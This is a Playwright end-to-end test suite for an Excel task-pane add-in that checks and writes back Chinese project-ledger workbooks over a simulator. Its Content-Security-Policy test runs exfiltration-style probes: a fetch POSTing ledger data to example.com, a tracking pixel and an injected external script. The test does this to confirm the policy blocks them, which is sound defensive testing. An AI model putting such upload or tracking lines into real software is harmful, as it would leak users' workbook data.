import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import webpack from 'webpack';
import { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { CheckResult, checkWorkbook } from '../../src/core/check';
import { localIsoDate } from '../../src/core/clock';
import { TableOverride } from '../../src/core/detect/overrides';
import { cellAddress, columnLetter } from '../../src/core/grid';
import { planNextPeriod } from '../../src/core/next/plan';
import { buildColumnPlan } from '../../src/core/report/columnPlan';
import { totalsFormulaFixes } from '../../src/core/report/fixes';
import { STATUS_LABELS } from '../../src/core/report/labels';
import { PROGRESS_STATUSES } from '../../src/core/progress/status';
import { ALL_RULES } from '../../src/core/rules/registry';
import { ExcelSimulator, SheetDump } from '../excelSimulator';
import { OfficeWorkbook, readOfficeWorkbook } from '../helpers/officeWorkbook';
import {
  DIST,
  StaticServer,
  launchBrowser,
  metaPolicy,
  recordRequests,
  recordViolations,
  remoteRequests,
  requestOrigins,
  screenshot,
  serveDirectory,
} from './harness';
import { SimulatorSetup } from './simulatorPage';
/** The task pane loads office.js from Microsoft's CDN, as add-ins must; the test answers it with the simulator. */
const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
/** The one outside origin the pane's Content-Security-Policy lets in. */
const OFFICE_CDN = new URL(OFFICE_JS).origin;
const TIMEOUT = 180_000;
/** A task pane is about this wide beside the sheet. */
const VIEWPORT = { width: 380, height: 900 };

type SimWindow = Window & { __sim: ExcelSimulator };

let browser: Browser;
let server: StaticServer;
let simulatorScript: string;
let buildDir: string;

/** The simulator bundled for the page with webpack's Node API (target web), from test/excelSimulator. */
async function bundleSimulator(outDir: string): Promise<string> {
  const compiler = webpack({
    mode: 'development',
    devtool: false,
    target: 'web',
    entry: path.resolve(__dirname, 'simulatorPage.ts'),
    output: { path: outDir, filename: 'simulator.js' },
    resolve: { extensions: ['.ts', '.js'], extensionAlias: { '.js': ['.ts', '.js'] } },
    module: {
      rules: [
        {
          test: /\.ts$/,
          exclude: /node_modules/,
          use: {
            loader: 'ts-loader',
            options: {
              transpileOnly: true,
              configFile: path.resolve(__dirname, '..', '..', 'tsconfig.json'),
              compilerOptions: { module: 'esnext', moduleResolution: 'bundler' },
            },
          },
        },
      ],
    },
  });
  await new Promise<void>((resolve, reject) =>
    compiler.run((error, stats) => {
      compiler.close(() => undefined);
      if (error) reject(error);
      else if (stats?.hasErrors()) reject(new Error(stats.toString('errors-only')));
      else resolve();
    }),
  );
  return fs.readFileSync(path.join(outDir, 'simulator.js'), 'utf8');
}

beforeAll(async () => {
  buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'taizhang-simulator-'));
  [simulatorScript, browser, server] = await Promise.all([bundleSimulator(buildDir), launchBrowser(), serveDirectory(DIST)]);
}, TIMEOUT);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (buildDir) fs.rmSync(buildDir, { recursive: true, force: true });
});

interface Pane {
  context: BrowserContext;
  page: Page;
  requests: string[];
  /** Content-Security-Policy violations the page reported. */
  violations: string[];
}

/**
 * taskpane.html in a fresh page, the simulator over `setup` standing in for Office: it is the answer
 * to the page's own office.js request, from the CDN's address, so the page's Content-Security-Policy
 * must let that origin's script run (the setup it reads is set before any script runs).
 */
async function openPane(setup: SimulatorSetup): Promise<Pane> {
  const context = await browser.newContext({ viewport: VIEWPORT, locale: 'zh-CN' });
  const page = await context.newPage();
  const requests = recordRequests(page);
  const violations = await recordViolations(page);
  await page.route(OFFICE_JS, (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: simulatorScript }));
  await page.addInitScript({ content: `window.__taizhangSimulator = ${JSON.stringify(setup)};` });
  await page.goto(`${server.origin}/taskpane.html`);
  await page.getByRole('tab', { name: '识别' }).waitFor();
  return { context, page, requests, violations };
}

/** Nothing went anywhere but the pane's own origin and office.js on the CDN, and nothing was refused. */
function expectOnlyOwnOriginAndOfficeJs(requests: string[], violations: string[]): void {
  expect(requestOrigins(requests)).toEqual([server.origin, OFFICE_CDN].sort());
  expect([...new Set(remoteRequests(requests, server.origin))]).toEqual([OFFICE_JS]);
  expect(violations).toEqual([]);
}

function panel(page: Page, name: string): Locator {
  return page.getByRole('tabpanel', { name });
}

async function openStep(page: Page, name: string): Promise<Locator> {
  await page.getByRole('tab', { name: new RegExp(`^${name}`) }).click();
  const step = panel(page, name);
  await step.waitFor();
  return step;
}

/** Waits for the message bar that says an action is done (it appears once the check after it is in). */
async function notice(page: Page, text: string): Promise<void> {
  await page.getByText(text).first().waitFor();
}

async function chooseOption(page: Page, combobox: Locator, option: string): Promise<void> {
  await combobox.click();
  await page.getByRole('option', { name: option, exact: true }).click();
}

const dumpSheet = (page: Page, sheet: string): Promise<SheetDump> =>
  page.evaluate((name) => (window as unknown as SimWindow).__sim.dumpSheet(name), sheet);

const settings = (page: Page): Promise<Record<string, unknown>> => page.evaluate(() => (window as unknown as SimWindow).__sim.dump().settings);

function setupOf(office: OfficeWorkbook, settingsInWorkbook: Record<string, unknown> = {}): SimulatorSetup {
  return { workbook: office.workbook, options: { styles: office.styles, settings: settingsInWorkbook, displayLanguage: 'zh-CN' } };
}

function expectedCheck(office: OfficeWorkbook, asOf: string | undefined, overrides: TableOverride[] = []): CheckResult {
  return checkWorkbook(office.workbook, { today: localIsoDate(new Date()), asOf, lang: 'zh', overrides });
}

const RULE_TITLES = new Map(ALL_RULES.map((rule) => [rule.meta.code, rule.meta.description.zh]));
const SEVERITY_NAMES = { error: '错误', warning: '警告', info: '提示' } as const;

/** 识别: the table as detected, with its rows and counts. */
async function expectDetected(page: Page, title: string, facts: string[]): Promise<void> {
  const table = panel(page, '识别').getByRole('region', { name: title });
  await table.waitFor();
  const text = await table.locator('dl').innerText();
  for (const fact of facts) expect(text).toContain(fact);
}

async function setReportDate(page: Page, date: string): Promise<void> {
  await panel(page, '识别').locator('input[type="date"]').fill(date);
  await page.getByText(`报告日期 ${date}`).first().waitFor();
}

/** 校验: the same findings as the engine gives, grouped and counted; a click selects the cell in the sheet. */
async function expectFindings(page: Page, expected: CheckResult, sheet: string): Promise<Locator> {
  const step = await openStep(page, '校验');
  const findings = expected.report.findings.filter((f) => f.sheet === sheet);
  for (const severity of ['error', 'warning', 'info'] as const) {
    const ofSeverity = findings.filter((f) => f.severity === severity);
    const section = step.getByRole('region', { name: SEVERITY_NAMES[severity] });
    if (ofSeverity.length === 0) {
      expect(await section.count()).toBe(0);
      continue;
    }
    expect((await section.locator('.fui-Badge').first().innerText()).trim()).toBe(String(ofSeverity.length));
    for (const code of new Set(ofSeverity.map((f) => f.code))) {
      const header = section.getByRole('button', { name: new RegExp(`^${RULE_TITLES.get(code)}`) });
      expect(await header.innerText()).toContain(String(ofSeverity.filter((f) => f.code === code).length));
    }
  }
  const shown = await step.locator('li button').allInnerTexts();
  expect(shown.map((s) => s.replace(/\s+/g, '')).sort()).toEqual(findings.map((f) => `${f.cell}${f.message}`.replace(/\s+/g, '')).sort());
  return step;
}

async function clickFinding(page: Page, step: Locator, cell: string, sheet: string): Promise<void> {
  await step.locator('li button', { hasText: new RegExp(`^${cell}`) }).first().click();
  await page.waitForFunction(({ s, c }) => {
    const selected = (window as unknown as SimWindow).__sim.selection();
    return selected !== null && selected.sheet === s && selected.address === c;
  }, { s: sheet, c: cell });
}

/** 进度: the counts per status and per lead unit the engine gives, and the chart drawn. */
async function expectProgress(pane: Pane, expected: CheckResult): Promise<void> {
  const { page, requests } = pane;
  // the charts' code is not part of the first load: it arrives when the chart is first shown
  const chartRequests = (): string[] => requests.filter((u) => /\/charts\.[0-9a-f]+\.js$/.test(u));
  expect(chartRequests()).toEqual([]);
  const step = await openStep(page, '进度');
  const counts = await step.locator('dl > div').evaluateAll((divs) =>
    divs.map((d) => [d.querySelector('dt')?.textContent ?? '', d.querySelector('dd')?.textContent ?? '']),
  );
  expect(counts).toEqual(PROGRESS_STATUSES.map((s) => [STATUS_LABELS[s].zh, String(expected.report.progress.byStatus[s])]));
  const leads = step.getByRole('table', { name: '各牵头单位' });
  const rows = await leads.locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
  expect(rows).toEqual(expected.report.progress.byLead.map((l) => [l.lead, String(l.items), String(l.behind), String(l.overdue)]));
  // each item's status beside its basis, those behind or overdue first
  const judged = await step
    .getByRole('table', { name: '各事项的判断' })
    .locator('tbody tr')
    .evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
  const attention = (status: string): boolean => status === '逾期未完成' || status === '滞后';
  const firstCalm = judged.findIndex((r) => !attention(r[2]));
  expect(judged.slice(firstCalm).some((r) => attention(r[2]))).toBe(false);
  expect([...judged].sort((a, b) => Number(a[0]) - Number(b[0]))).toEqual(
    [...expected.report.items]
      .sort((a, b) => a.row - b.row)
      .map((i) => [String(i.row), i.name, STATUS_LABELS[i.status].zh, i.basis ?? '既无目标也无进展，无法判断']),
  );
  // the chart: drawn by @fluentui/react-charts, whose code arrives only now
  const figure = step.getByRole('figure', { name: '各进度状态的事项数' });
  const bars = figure.locator('svg rect[role="option"]');
  await bars.first().waitFor({ state: 'attached' });
  // one bar per status, each labelled with its count; the axis names every status
  const drawn = await bars.evaluateAll((rects) =>
    rects
      .map((r) => ({ label: r.getAttribute('aria-label'), y: Number(r.getAttribute('y')), width: Number(r.getAttribute('width')) }))
      .sort((a, b) => a.y - b.y),
  );
  // top to bottom in the statuses' order, a bar as long as there are items
  expect(drawn.map((bar) => [bar.label, bar.width > 0])).toEqual(
    PROGRESS_STATUSES.map((s) => [`${STATUS_LABELS[s].zh}. ${STATUS_LABELS[s].zh}, ${expected.report.progress.byStatus[s]}.`, expected.report.progress.byStatus[s] > 0]),
  );
  const axis = await figure.locator('svg text').evaluateAll((texts) => texts.map((t) => t.textContent));
  for (const status of PROGRESS_STATUSES) expect(axis).toContain(STATUS_LABELS[status].zh);
  expect(chartRequests()).toHaveLength(1);
}

/** 写回: the plan in words, the write into the simulated sheet, and undo back to the very same cells. */
async function writeAndUndo(page: Page, expected: CheckResult, sheet: string, sentence: string, name: string): Promise<SheetDump> {
  const step = await openStep(page, '写回');
  expect(await step.innerText()).toContain(sentence);
  const before = await dumpSheet(page, sheet);
  await step.getByRole('button', { name: '写入进度列' }).click();
  await notice(page, `已写入「${sheet}」`);
  await screenshot(page, name);
  const after = await dumpSheet(page, sheet);
  const plans = expected.model.tables
    .filter((t) => t.table.sheet === sheet && t.items.length > 0)
    .map((t) => buildColumnPlan(t, expected.progress.items, expected.findings, { lang: 'zh' }));
  expect(plans.length).toBeGreaterThan(0);
  for (const plan of plans) {
    const got = plan.cells.map((c) => [cellAddress(c.row, c.col), after.cells[cellAddress(c.row, c.col)]?.value ?? null]);
    expect(got).toEqual(plan.cells.map((c) => [cellAddress(c.row, c.col), c.value]));
    for (const column of plan.columns) {
      for (let row = plan.headerBottom + 1; row <= plan.lastRow; row++) {
        expect([cellAddress(row, column.col), after.cells[cellAddress(row, column.col)]?.numberFormat]).toEqual([cellAddress(row, column.col), column.numberFormat]);
      }
    }
  }
  // written once, the columns are Taizhang's: the next write updates them in place
  await step.getByText('这些列是台账助手上次写入的，将原位更新。').waitFor();
  await step.getByRole('button', { name: '撤销上次操作' }).click();
  await notice(page, '已撤销台账助手的上一步操作');
  expect(await dumpSheet(page, sheet)).toEqual(before);
  expect(await step.getByRole('button', { name: '撤销上次操作' }).isDisabled()).toBe(true);
  return before;
}

describe('the task pane in Chromium, over the Excel simulator', () => {
  it('lianshui: detects, keeps a role correction, checks, shows progress, writes, fixes and undoes', async () => {
    const office = await readOfficeWorkbook('lianshui');
    const sheet = '项目表';
    const title = '2024年县政府民生实事项目表';
    const asOf = '2024-09-30';
    const requests: string[] = [];
    const violations: string[] = [];

    // 识别, and a correction kept in the workbook for the next opening
    let pane = await openPane(setupOf(office));
    await expectDetected(pane.page, title, ['第 2–3 行', '第 5–54 行', '第 4 行', '50']);
    await setReportDate(pane.page, asOf);
    expect(await pane.page.getByText('由你选定').first().isVisible()).toBe(true);
    const detect = panel(pane.page, '识别');
    const typeRole = detect.getByRole('combobox', { name: '项目类型' });
    expect(await typeRole.innerText()).toContain('E');
    await chooseOption(pane.page, typeRole, '（无此列）');
    await detect.getByRole('button', { name: '保存更正' }).click();
    await notice(pane.page, '更正已保存在工作簿中');
    const saved = await settings(pane.page);
    const overrides: TableOverride[] = [{ sheet, roles: { type: null } }];
    expect(JSON.parse(saved['taizhang.overrides'] as string)).toEqual(overrides);
    requests.push(...pane.requests);
    violations.push(...pane.violations);
    await pane.context.close();

    // the same workbook opened again: the correction is there without asking
    pane = await openPane(setupOf(office, saved));
    const { page } = pane;
    await expectDetected(page, title, ['第 5–54 行']);
    const kept = panel(page, '识别').getByRole('combobox', { name: '项目类型' });
    expect(await kept.innerText()).toContain('（无此列）');
    expect(await panel(page, '识别').getByText('已更正').count()).toBe(1);
    await setReportDate(page, asOf);
    await screenshot(page, 'taskpane-lianshui-1-detect');

    const expected = expectedCheck(office, asOf, overrides);
    const step = await expectFindings(page, expected, sheet);
    await clickFinding(page, step, 'F4', sheet);
    // the lead filter keeps the findings about that unit's items: L52 is in one item's rows
    const item52 = expected.report.items.find((i) => i.row <= 52 && i.rowEnd >= 52)!;
    await chooseOption(page, step.getByRole('combobox', { name: '牵头单位' }), item52.leads[0]);
    expect(await step.locator('li button').allInnerTexts()).toEqual([expect.stringContaining('L52')]);
    await chooseOption(page, step.getByRole('combobox', { name: '牵头单位' }), '全部');
    expect(await step.locator('li button').count()).toBe(expected.report.findings.length);
    await clickFinding(page, step, 'L52', sheet);
    await screenshot(page, 'taskpane-lianshui-2-check');

    await expectProgress(pane, expected);
    await screenshot(page, 'taskpane-lianshui-3-progress');

    const before = await writeAndUndo(page, expected, sheet, '将在「项目表」O–T 列写入：完成率（O）、序时进度（P）、进度状态（Q）、本期计划（R）、下期计划（S）、校验提示（T），第 2–54 行。', 'taskpane-lianshui-4-write');

    // the optional fixes: every typed total of row 4 becomes its SUM, and undo types them back
    const fixes = totalsFormulaFixes(expected.model);
    expect(fixes.map((f) => f.cell)).toEqual(['F4', 'G4', 'H4', 'I4', 'J4', 'K4']);
    const write = panel(page, '写回');
    expect(await write.getByRole('checkbox').count()).toBe(fixes.length);
    expect(await write.innerText()).toContain('F4（项目计划总投资）：手填 69911.5 → =SUM(F5:F54)（按现有明细为 69911.5）');
    await write.getByRole('button', { name: '应用所选修正' }).click();
    await notice(page, `已把 ${fixes.length} 个手填合计改为公式`);
    const fixed = await dumpSheet(page, sheet);
    for (const fix of fixes) expect([fix.cell, fixed.cells[fix.cell].formula]).toEqual([fix.cell, fix.formula]);
    await screenshot(page, 'taskpane-lianshui-5-fixes');
    await write.getByRole('button', { name: '撤销上次操作' }).click();
    await notice(page, '已撤销台账助手的上一步操作');
    const restored = await dumpSheet(page, sheet);
    expect(restored).toEqual(before);
    for (const fix of fixes) expect([fix.cell, restored.cells[fix.cell].value, restored.cells[fix.cell].formula]).toEqual([fix.cell, fix.typed, undefined]);

    requests.push(...pane.requests);
    violations.push(...pane.violations);
    await pane.context.close();
    expectOnlyOwnOriginAndOfficeJs(requests, violations);
  }, TIMEOUT);

  it('shanting: the report date from the title, findings by lead unit, progress, write and undo', async () => {
    const office = await readOfficeWorkbook('shanting');
    const sheet = '一季度台账';
    const pane = await openPane(setupOf(office));
    const { page, context, requests, violations } = pane;
    await expectDetected(page, '2025年一季度民生实事工作进展情况台账', ['第 2 行', '第 3–35 行', '无', '33', '10']);
    const detect = panel(page, '识别');
    expect(await detect.locator('input[type="date"]').inputValue()).toBe('2025-03-31');
    expect(await detect.innerText()).toContain('从 A1「2025年一季度民生实事工作进展情况台账」推断');
    await screenshot(page, 'taskpane-shanting-1-detect');

    const expected = expectedCheck(office, undefined);
    expect(expected.report.findings.length).toBeGreaterThan(0);
    const step = await expectFindings(page, expected, sheet);
    const first = expected.report.findings[0];
    await clickFinding(page, step, first.cell, sheet);
    const lead = expected.report.progress.byLead.find((l) => l.behind > 0)!;
    await chooseOption(page, step.getByRole('combobox', { name: '牵头单位' }), lead.lead);
    const ofLead = expected.report.findings.filter((f) =>
      expected.report.items.some((i) => f.row >= i.row && f.row <= i.rowEnd && i.leads.includes(lead.lead)),
    );
    expect(ofLead.length).toBeGreaterThan(0);
    expect(await step.locator('li button').count()).toBe(ofLead.length);
    await screenshot(page, 'taskpane-shanting-2-check');

    await expectProgress(pane, expected);
    await screenshot(page, 'taskpane-shanting-3-progress');

    const table = expected.model.tables[0].table;
    // five columns: the ledger's own 4月份计划 stands for 下期计划
    const letters = [1, 2, 3, 4, 5].map((i) => columnLetter(table.right + i));
    await writeAndUndo(page, expected, sheet, `将在「一季度台账」${letters[0]}–${letters[4]} 列写入：完成率（${letters[0]}）`, 'taskpane-shanting-4-write');
    expect(await panel(page, '写回').getByText('不另写：下期计划（表中已有「4月份计划」，G 列）').isVisible()).toBe(true);
    expect(await panel(page, '写回').getByText('合计行没有需要改为公式的手填数字。').isVisible()).toBe(true);

    // the user types into a planned column after the check: the write refuses, names the cell, offers another place
    const typedAt = `${letters[1]}10`;
    await page.evaluate(
      ({ name, row, col }) => {
        const state = (window as unknown as SimWindow).__sim.state.sheets.find((s) => s.name === name)!;
        (state.cells[row] ??= [])[col] = { value: '手写备注' };
      },
      { name: sheet, row: 9, col: table.right + 2 },
    );
    const planted = await dumpSheet(page, sheet);
    const write = panel(page, '写回');
    await write.getByRole('button', { name: '写入进度列' }).click();
    const refusal = write.getByText(`「一季度台账」的 ${typedAt} 已有内容（不是台账助手写入的）。为免覆盖，这次没有写入任何内容。`);
    await refusal.waitFor();
    expect(await dumpSheet(page, sheet)).toEqual(planted);
    const elsewhere = columnLetter(table.right + 7);
    expect(await refusal.innerText()).toContain(`可改为从 ${elsewhere} 列起写入`);
    await screenshot(page, 'taskpane-shanting-5-refused');
    await write.getByRole('button', { name: `改为从 ${elsewhere} 列写入` }).click();
    const moved = [0, 1, 2, 3, 4].map((i) => columnLetter(table.right + 7 + i));
    await write.getByText(`将在「一季度台账」${moved[0]}–${moved[4]} 列写入：完成率（${moved[0]}）`).waitFor();
    expect(await write.getByRole('textbox', { name: '写入起始列' }).inputValue()).toBe(elsewhere);
    await write.getByRole('button', { name: '写入进度列' }).click();
    await notice(page, `已写入「一季度台账」${moved[0]}–${moved[4]} 列`);
    const written = await dumpSheet(page, sheet);
    expect(written.cells[`${moved[0]}2`].value).toBe('完成率');
    expect(written.cells[typedAt].value).toBe('手写备注');
    await write.getByRole('button', { name: '撤销上次操作' }).click();
    await notice(page, '已撤销台账助手的上一步操作');
    expect(await dumpSheet(page, sheet)).toEqual(planted);

    await context.close();
    expectOnlyOwnOriginAndOfficeJs(requests, violations);
  }, TIMEOUT);

  it('shanting: 生成下期台账 adds the next quarter’s ledger as a sheet after the checked one, its code loaded late; undo deletes it', async () => {
    const office = await readOfficeWorkbook('shanting');
    const sheet = '一季度台账';
    const pane = await openPane(setupOf(office));
    const { page, context, requests, violations } = pane;
    try {
      await expectDetected(page, '2025年一季度民生实事工作进展情况台账', ['第 3–35 行']);
      // the next period's code is not part of the first load: it arrives with the first press
      const nextChunk = (): string[] => requests.filter((u) => /\/next\.[0-9a-f]+\.js$/.test(u));
      expect(nextChunk()).toEqual([]);
      const write = await openStep(page, '写回');
      const section = write.getByRole('region', { name: '生成下期台账' });
      expect(await section.innerText()).toContain('在本工作簿中紧接本表新建一张工作表作为下期台账');
      const before = await dumpSheet(page, sheet);
      await section.getByRole('button', { name: '生成下期台账' }).click();
      await notice(page, '已在本工作簿中新建工作表「二季度台账」作为下期台账；原工作表没有改动。');
      const undo = write.getByRole('button', { name: '撤销上次操作' });
      expect(await undo.isDisabled()).toBe(false);
      await screenshot(page, 'taskpane-shanting-6-next');
      expect(nextChunk()).toHaveLength(1);
      const workbook = await page.evaluate(() => (window as unknown as SimWindow).__sim.dump());
      expect(workbook.sheets.map((s) => s.name)).toEqual([sheet, '二季度台账']);
      expect(workbook.activeSheet).toBe('二季度台账');
      expect(workbook.sheets[0]).toEqual(before);
      const plan = planNextPeriod(expectedCheck(office, undefined), { lang: 'zh' });
      const copy = workbook.sheets[1];
      expect(plan.moved.map((m) => [m.cell, copy.cells[m.cell].value])).toEqual(plan.moved.map((m) => [m.cell, m.after]));
      expect(copy.notes).toEqual(Object.fromEntries(plan.sheets[0].notes.map((n) => [cellAddress(n.row, n.col), n.text])));
      for (const note of plan.sheets[0].notes) expect(copy.cells[cellAddress(note.row, note.col)]?.value ?? null).toBeNull();

      // 撤销 deletes the added sheet; the checked one was never touched
      await undo.click();
      await notice(page, '已撤销生成下期台账，工作表「二季度台账」已删除。');
      const undone = await page.evaluate(() => (window as unknown as SimWindow).__sim.dump());
      expect(undone.sheets.map((s) => s.name)).toEqual([sheet]);
      expect(undone.sheets[0]).toEqual(before);
      expect(undone.settings).toEqual({});
      expectOnlyOwnOriginAndOfficeJs(requests, violations);
    } finally {
      await context.close();
    }
  }, TIMEOUT);

  it('the Content-Security-Policy lets in office.js from its CDN and nothing else from outside, and the steps break none of it', async () => {
    // the built page carries the policy before its first script: office.js and the bundle come under it
    const html = fs.readFileSync(path.join(DIST, 'taskpane.html'), 'utf8');
    const policy = metaPolicy(html);
    expect(policy).not.toBeNull();
    expect(html.search(/http-equiv=["']?Content-Security-Policy/i)).toBeLessThan(html.search(/<script\b/i));
    const directives = new Map(
      policy!
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0] !== '')
        .map(([name, ...sources]) => [name, sources]),
    );
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual(["'self'", OFFICE_CDN]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    // no other directive names anything outside: no host, no scheme that reaches the network
    for (const [name, sources] of directives) {
      const outside = sources.filter((s) => !["'self'", "'none'", "'unsafe-inline'", 'data:'].includes(s) && !(name === 'script-src' && s === OFFICE_CDN));
      expect([name, outside]).toEqual([name, []]);
      if (sources.includes("'unsafe-inline'")) expect(name).toBe('style-src');
    }

    // the pane through its steps, over the simulator: detect, check, progress (its chart loaded late), write and undo
    const office = await readOfficeWorkbook('shanting');
    const sheet = '一季度台账';
    const pane = await openPane(setupOf(office));
    const { page, context, requests, violations } = pane;
    const failed = new Map<string, string>();
    page.on('requestfailed', (request) => failed.set(request.url(), request.failure()?.errorText ?? ''));
    try {
      expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(policy);
      await expectDetected(page, '2025年一季度民生实事工作进展情况台账', ['第 3–35 行']);
      const expected = expectedCheck(office, undefined);
      const step = await expectFindings(page, expected, sheet);
      await clickFinding(page, step, expected.report.findings[0].cell, sheet);
      await expectProgress(pane, expected);
      const letter = columnLetter(expected.model.tables[0].table.right + 1);
      await writeAndUndo(page, expected, sheet, `将在「一季度台账」${letter}–`, 'taskpane-csp-write');
      expectOnlyOwnOriginAndOfficeJs(requests, violations);
      expect(failed).toEqual(new Map());

      // the records can fail: whatever the page tried off the machine now is both refused and seen
      const seen = requests.length;
      await page.evaluate(async () => {
        await fetch('https://example.com/upload', { method: 'POST', body: 'ledger' }).catch(() => undefined);
        new Image().src = 'https://example.com/pixel.png';
        const script = document.createElement('script');
        script.src = 'https://example.com/tracker.js';
        document.head.append(script);
        await new Promise((resolve) => setTimeout(resolve, 500));
      });
      const events = (): string[] => violations.filter((v) => !v.startsWith('console: ')).sort();
      // the page's reports reach the test through a binding: a moment after the page sent them
      for (let waited = 0; events().length < 3 && waited < 5_000; waited += 100) await page.waitForTimeout(100);
      expect(events()).toEqual([
        'connect-src https://example.com/upload',
        'img-src https://example.com/pixel.png',
        'script-src-elem https://example.com/tracker.js',
      ]);
      expect(violations.filter((v) => v.startsWith('console: ')).length).toBeGreaterThanOrEqual(3);
      const probes = requests.slice(seen);
      expect(requestOrigins(probes)).toContain('https://example.com');
      for (const url of remoteRequests(probes, server.origin)) expect([url, failed.get(url)]).toEqual([url, 'csp']);
    } finally {
      await context.close();
    }
  }, TIMEOUT);
});
